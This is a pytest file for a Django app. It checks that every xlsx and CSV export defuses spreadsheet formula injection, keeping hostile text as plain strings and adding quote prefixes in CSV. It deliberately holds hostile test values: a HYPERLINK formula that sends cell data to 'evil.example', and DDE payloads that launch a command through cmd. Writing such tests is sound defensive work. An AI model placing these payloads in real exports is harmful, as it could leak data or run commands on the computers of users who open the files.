"""No export carries a live formula (issue 11, section 3).

An indicator, a priority area, a line of commentary and a recommendation are given text that a
spreadsheet would run (=, +, -, @, tab); every export route is then downloaded and opened as a
spreadsheet program would: no .xlsx cell is a formula (each hostile text is there, as a
string), and every .csv cell that begins with a trigger is prefixed with a quote. Real numbers,
negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from core import safe_cells
from indicators.models import Commentary, Indicator, PriorityArea, Value
from recommendations.models import Recommendation

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
AREA = "+cmd|' /C calc'!A0"
ANALYSIS = "-2+3+cmd|' /C calc'!A0"
ACTION = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLE = "=1+1 Title of the item"
PROPOSED = "\t=2+2 tab first"
HOSTILE = (NAME, AREA, ANALYSIS, ACTION, TITLE)


@pytest.fixture
def hostile(world):  # noqa: F811
    # Fresh copies: the world's objects are shared by the whole module.
    indicator = Indicator.objects.get(pk=world.indicator_a.pk)
    indicator.name = NAME
    indicator.save()
    area = PriorityArea.objects.get(pk=world.area_a.pk)
    area.name = AREA
    area.save()
    commentary = (
        Commentary.objects.filter(priority_area=area, state=Value.State.PUBLISHED)
        .order_by("-month")
        .first()
    )
    commentary.analysis = ANALYSIS
    commentary.actions = ACTION
    commentary.save()
    recommendation = Recommendation.objects.get(pk=world.recommendation.pk)
    recommendation.item_title = TITLE
    recommendation.action_proposed = PROPOSED
    recommendation.save()
    return world


def _downloads(client, w) -> dict[str, bytes]:
    """Every export route's file, by a name saying where it came from."""
    slug = w.panel.slug
    client.force_login(w.users["admin"])
    files = {}
    for path in (f"/panels/{slug}/performance/",):
        for columns in ("", "2019"):
            for export_format in ("xlsx", "csv"):
                response = client.get(path, {"format": export_format, "columns": columns})
                assert response.status_code == 200, path
                files[f"{path}?columns={columns}.{export_format}"] = response.content
    for path in ("/recommendations/", f"/recommendations/report/{w.report_date}/"):
        for export_format in ("xlsx", "csv"):
            response = client.get(path, {"format": export_format})
            assert response.status_code == 200, path
            files[f"{path}.{export_format}"] = response.content
    selected = [
        str(pk) for pk in Indicator.objects.filter(panel=w.panel).values_list("pk", flat=True)
    ]
    for action in ("export_xlsx", "export_csv"):
        response = client.post(
            "/admin/indicators/indicator/",
            {"action": action, "_selected_action": selected, "index": "0"},
        )
        assert response.status_code == 200, action
        assert response["Content-Disposition"].startswith("attachment"), action
        files[f"admin {action}.{action[-4:].lstrip('_')}"] = response.content
    return files


def _command_files(tmp_path, w) -> dict[str, bytes]:
    files = {}
    for suffix in ("xlsx", "csv"):
        path = tmp_path / f"dataset.{suffix}"
        call_command("export_dataset", str(path), "--panel", w.panel.slug)
        files[f"export_dataset .{suffix}"] = path.read_bytes()
        path = tmp_path / f"tracker.{suffix}"
        call_command(
            "export_tracker", str(path), "--panel", w.panel.slug, "--meeting", str(w.report_date)
        )
        files[f"export_tracker .{suffix}"] = path.read_bytes()
    return files


def _xlsx_cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_every_export_route_is_checked(hostile, client, tmp_path):
    files = {**_downloads(client, hostile), **_command_files(tmp_path, hostile)}
    # The monitoring table has one address (its second route under /indicators/ went, issue 13).
    assert len(files) == 14
    assert sum(name.endswith("xlsx") for name in files) == 7


def test_no_xlsx_export_holds_a_formula_and_the_text_is_kept(hostile, client, tmp_path):
    files = {**_downloads(client, hostile), **_command_files(tmp_path, hostile)}
    for name, content in files.items():
        if not name.endswith("xlsx"):
            continue
        cells = _xlsx_cells(content)
        formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
        assert formulas == [], name
        texts = {c.value for c in cells if c.data_type == "s"}
        if "tracker" in name or "recommendations" in name:
            assert TITLE in texts, name
        else:
            assert NAME in texts, name
            assert AREA in texts, name
        if "performance" in name or "export_dataset" in name:
            assert ANALYSIS in texts and f"- {ACTION}" in texts, name


def test_negative_figures_stay_numbers_in_xlsx(hostile, client):
    content = _downloads(client, hostile)[
        f"/panels/{hostile.panel.slug}/performance/?columns=.xlsx"
    ]
    numbers = [c.value for c in _xlsx_cells(content) if c.data_type == "n" and c.value is not None]
    assert any(value < 0 for value in numbers)


def test_every_csv_cell_a_spreadsheet_would_run_is_prefixed(hostile, client, tmp_path):
    files = {**_downloads(client, hostile), **_command_files(tmp_path, hostile)}
    for name, content in files.items():
        if not name.endswith("csv"):
            continue
        cells = _csv_cells(content)
        live = [
            cell
            for cell in cells
            if cell.startswith(safe_cells.FORMULA_TRIGGERS)
            and not safe_cells._PLAIN_NUMBER.fullmatch(cell)
        ]
        assert live == [], name
        if "tracker" in name or "recommendations" in name:
            assert "'" + TITLE in cells, name
            assert any(cell.startswith("1) \t=2+2") or cell.endswith(PROPOSED) for cell in cells)
        else:
            assert "'" + NAME in cells, name
            assert "'" + AREA in cells, name


@pytest.mark.parametrize(
    ("figure", "cell"),
    [("-3.2%", "-3.2%"), ("+12.5%", "+12.5%"), ("1828", "1828"), ("-1+1", "'-1+1"), ("TBC", "TBC")],
)
def test_a_printed_figure_stays_a_number_in_csv_and_anything_else_is_prefixed(figure, cell):
    assert safe_cells.csv_figure(figure) == cell
